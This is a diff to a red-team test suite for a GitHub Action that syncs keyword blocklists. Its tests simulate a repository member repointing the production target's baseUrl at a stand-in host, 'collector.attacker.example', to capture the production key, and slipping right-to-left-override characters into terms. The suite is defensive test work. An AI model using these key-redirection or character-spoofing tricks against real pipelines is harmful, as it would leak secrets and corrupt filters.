@@ -36,6 +36,8 @@ function branch(files: Record<string, string>): string {
   return head;
 }
 async function memberStageTwo(head: string, target = 'default') {
+  // A member who can push branches here: write access (R-M11: a read-only member is an outsider).
+  gh.permissions.set('insider', 'write');
   gh.pulls = [{
     number: 7, state: 'open', user: { login: 'insider', type: 'User' }, author_association: 'MEMBER', labels: [],
     head: { sha: head, ref: 'feature', repo: { full_name: 'acme/lists', owner: { login: 'acme' } } }, base: { sha: baseSha, ref: 'main', repo: { full_name: 'acme/lists' } },
@@ -89,6 +91,7 @@ describe('red team, member: the pull request plan', () => {
     w.emu.requests.length = 0;
     gh.pulls = [];
     const event = { workflow_run: { id: 99, event: 'pull_request', status: 'completed', conclusion: 'success', path: '.github/workflows/kwsync-plan.yml', head_sha: head, head_branch: 'feature', head_repository: { full_name: 'acme/lists', owner: { login: 'acme' } }, pull_requests: [] } };
+    gh.permissions.set('insider', 'write'); // R-M11: a trusted author also needs write access here
     gh.pulls = [{
       number: 7, state: 'open', user: { login: 'insider', type: 'User' }, author_association: 'MEMBER', labels: [],
       head: { sha: head, ref: 'feature', repo: { full_name: 'acme/lists', owner: { login: 'acme' } } }, base: { sha: baseSha, ref: 'lax', repo: { full_name: 'acme/lists' } },
@@ -126,30 +129,90 @@ describe('red team, member: the pull request plan', () => {
 
   it('R-M4 the PR adds a target that reuses the production environment (to get its key) with baseUrl on the member\'s server: refused', async () => {
     await base({ 'keywords/kwsync.yaml': `${CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
-    const head = branch({ 'keywords/kwsync.yaml': `${CONFIG}targets:\n  - name: production\n    appId: app1\n  - name: mirror\n    appId: app1\n    environment: production\n    baseUrl: http://collector.attacker.example\n` });
+    const head = branch({ 'keywords/kwsync.yaml': `${CONFIG}targets:\n  - name: production\n    appId: app1\n  - name: mirror\n    appId: app1\n    environment: production\n    baseUrl: https://collector.attacker.example\n` });
     const { check } = await memberStageTwo(head, 'production');
     expect(check.conclusion).toBe('failure');
     expect(JSON.stringify(check.annotations)).toContain('target-environment-shared');
   });
 
-  const REPOINT = `${CONFIG}targets:\n  - name: production\n    appId: app1\n    baseUrl: http://collector.attacker.example\n`;
-  it('R-M4b the PR points production itself at the member\'s server over plain http: the plan connects as the base says and a CAUTION names the change', async () => {
+  const REPOINT = `${CONFIG}targets:\n  - name: production\n    appId: app1\n    baseUrl: https://collector.attacker.example\n`;
+  const REPOINT_HTTP = REPOINT.replace('https://', 'http://');
+  it('R-M4b the PR points production itself at the member\'s server: the plan connects as the base says and a CAUTION names the change', async () => {
     await base({ 'keywords/kwsync.yaml': `${CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
     const { body } = await memberStageTwo(branch({ 'keywords/kwsync.yaml': REPOINT }), 'production');
     expect(body).toContain('**This change edits where targets connect**');
-    expect(body).toMatch(/baseUrl[^\n]*`http:\/\/collector\.attacker\.example`/);
+    expect(body).toMatch(/baseUrl[^\n]*`https:\/\/collector\.attacker\.example`/);
   });
 
-  // SUCCEEDED (partly, medium): once a reviewer merges R-M4b (the CAUTION is the only defence),
-  // the apply on that very push sends production's key to the new baseUrl, and plain http is
-  // accepted for a keyed target. Suggested: refuse http:// except loopback; apply a target whose
-  // connection fields changed since `before` only from a maintainer's Run workflow.
-  it.failing('R-M4c after merge, the push that re-points production does not send its key to the new server, and never over http', async () => {
+  // Was SUCCEEDED (partly, medium): the apply on the merge's push sent production's key to the new
+  // baseUrl, over plain http. Now: http:// is refused but for loopback, and a push that changes a
+  // target's connection fields does not apply it; a maintainer's Run workflow (no `before`) does.
+  it('R-M4c after merge, the push that re-points production does not send its key to the new server, and never over http', async () => {
+    await base({ 'keywords/kwsync.yaml': `${CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
+    const head = branch({ 'keywords/kwsync.yaml': REPOINT_HTTP, 'keywords/blocklist.yaml': listYaml('blocklist', [...TWELVE, 'darn']) });
+    const seen: (string | undefined)[] = [];
+    // The merged kwsync.yaml is invalid (http:// to a non-loopback host): the apply stops before connecting.
+    const failed = await applyMerged(head, 'production', (t) => void seen.push(t?.baseUrl)).then((r) => r.result.failed, () => true);
+    expect(failed).toBe(true);
+    expect(seen).not.toContain('http://collector.attacker.example');
+  });
+
+  it('R-M4c the same over https: the push applies nothing to production and says a maintainer must run the apply by hand', async () => {
     await base({ 'keywords/kwsync.yaml': `${CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
     const head = branch({ 'keywords/kwsync.yaml': REPOINT, 'keywords/blocklist.yaml': listYaml('blocklist', [...TWELVE, 'darn']) });
     const seen: (string | undefined)[] = [];
-    await applyMerged(head, 'production', (t) => void seen.push(t?.baseUrl));
-    expect(seen).not.toContain('http://collector.attacker.example');
+    const { result, summary } = await applyMerged(head, 'production', (t) => void seen.push(t?.baseUrl));
+    expect(seen).toEqual([]);
+    expect(result.failed).toBe(true);
+    expect(result.message).toMatch(/changes where target "production" connects[^]*running the apply workflow by hand/);
+    expect(summary).toContain('**This change edits where targets connect**');
+    expect(summary).toContain('**Nothing was applied.**');
+  });
+
+  it('R-M4c then a maintainer\'s Run workflow (no `before`) applies with the new connection', async () => {
+    await base({ 'keywords/kwsync.yaml': `${CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
+    const head = branch({ 'keywords/kwsync.yaml': REPOINT, 'keywords/blocklist.yaml': listYaml('blocklist', [...TWELVE, 'darn']) });
+    await applyMerged(head, 'production');
+    const h = harness(w.repo, gh, w.emu);
+    const seen: (string | undefined)[] = [];
+    const real = h.deps.connect!;
+    h.deps.connect = (t, service) => (seen.push(t?.baseUrl), real(t, service));
+    const result = await runAction({ inputs: inputs('apply', { target: 'production' }), context: context(w.repo, { sha: head, eventName: 'workflow_dispatch', event: {} }), deps: h.deps });
+    expect(result.failed).toBe(false);
+    expect(seen).toContain('https://collector.attacker.example');
+  });
+
+  it('R-M4c a push that renames production (same environment, new server) is held too: a new target is a new connection', async () => {
+    await base({ 'keywords/kwsync.yaml': `${CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
+    const head = branch({ 'keywords/kwsync.yaml': `${CONFIG}targets:\n  - name: prod2\n    appId: app1\n    environment: production\n    baseUrl: https://collector.attacker.example\n` });
+    const seen: (string | undefined)[] = [];
+    const { result } = await applyMerged(head, 'prod2', (t) => void seen.push(t?.baseUrl));
+    expect(seen).toEqual([]);
+    expect(result.failed).toBe(true);
+  });
+
+  it('R-M4c a push whose `before` cannot be read (force-pushed away) is held too: unknown is not unchanged', async () => {
+    await base({ 'keywords/kwsync.yaml': `${CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
+    const head = branch({ 'keywords/kwsync.yaml': REPOINT });
+    w.repo.git('merge', '-q', '--ff-only', 'feature');
+    gh.branches.set('main', head);
+    const h = harness(w.repo, gh, w.emu);
+    const seen: (string | undefined)[] = [];
+    const real = h.deps.connect!;
+    h.deps.connect = (t, service) => (seen.push(t?.baseUrl), real(t, service));
+    const result = await runAction({ inputs: inputs('apply', { target: 'production' }), context: context(w.repo, { sha: head, event: { before: 'e'.repeat(40) } }), deps: h.deps });
+    expect(seen).toEqual([]);
+    expect(result.failed).toBe(true);
+    expect(result.message).toMatch(/cannot be read[^]*running the apply workflow by hand/);
+  });
+
+  it('R-M4c a push that leaves the connection as it was applies as usual (the hold is for the connection only)', async () => {
+    await base({ 'keywords/kwsync.yaml': `${CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
+    await liveOf(w).createKeywordList({ id: 'blocklist', name: 'blocklist', description: '', category: 'word', searchTerms: TWELVE });
+    const head = branch({ 'keywords/blocklist.yaml': listYaml('blocklist', [...TWELVE, 'darn']) });
+    const { result } = await applyMerged(head, 'production');
+    expect([result.failed, result.message]).toEqual([false, undefined]);
+    expect((await liveOf(w).getKeywordList('blocklist'))?.searchTerms).toContain('darn');
   });
 });
 
@@ -197,12 +260,21 @@ describe('red team, member: promotion and rendering', () => {
     }
   });
 
-  it('R-M10 a term carrying a right-to-left override and zero-width characters (reads as another word): refused as an invisible character, nothing planned, nothing raw', async () => {
+  it('R-M10 a term carrying a right-to-left override and zero-width characters (reads as another word), accepted on purpose: the trusted plan shows the escapes', async () => {
     await base({ 'keywords/kwsync.yaml': CONFIG, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
     await liveOf(w).createKeywordList({ id: 'blocklist', name: 'blocklist', description: '', category: 'word', searchTerms: TWELVE });
-    const head = branch({ 'keywords/blocklist.yaml': listYaml('blocklist', [...TWELVE, JSON.stringify('ok\u202Emaxs\u200B')]) });
+    // Accepted on purpose (term-invisible-char is an error otherwise, and an invalid list is not planned): the plan must still show the escapes.
+    const head = branch({ 'keywords/blocklist.yaml': `${listYaml('blocklist', [...TWELVE, JSON.stringify('ok\u202Emaxs\u200B')])}accept: {term-invisible-char: "red team"}\n` });
     const { body, check } = await memberStageTwo(head);
-    // Invisible characters change what a term catches (issue 29): an error, so no plan is made.
+    expect(body).not.toMatch(/[\u202E\u200B]/);
+    expect(body).toMatch(/\\u202e/i);
+    expect(JSON.stringify(check.output)).not.toMatch(/[\u202E\u200B]/);
+  });
+
+  it('R-M10b the same term not accepted: an invisible-character error, no plan, nothing raw', async () => {
+    await base({ 'keywords/kwsync.yaml': CONFIG, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
+    await liveOf(w).createKeywordList({ id: 'blocklist', name: 'blocklist', description: '', category: 'word', searchTerms: TWELVE });
+    const { body, check } = await memberStageTwo(branch({ 'keywords/blocklist.yaml': listYaml('blocklist', [...TWELVE, JSON.stringify('ok\u202Emaxs\u200B')]) }));
     expect(body).toContain('Validation: 1 error');
     expect(body).toContain('No plan was made.');
     expect(body).not.toMatch(/[\u202E\u200B]/);
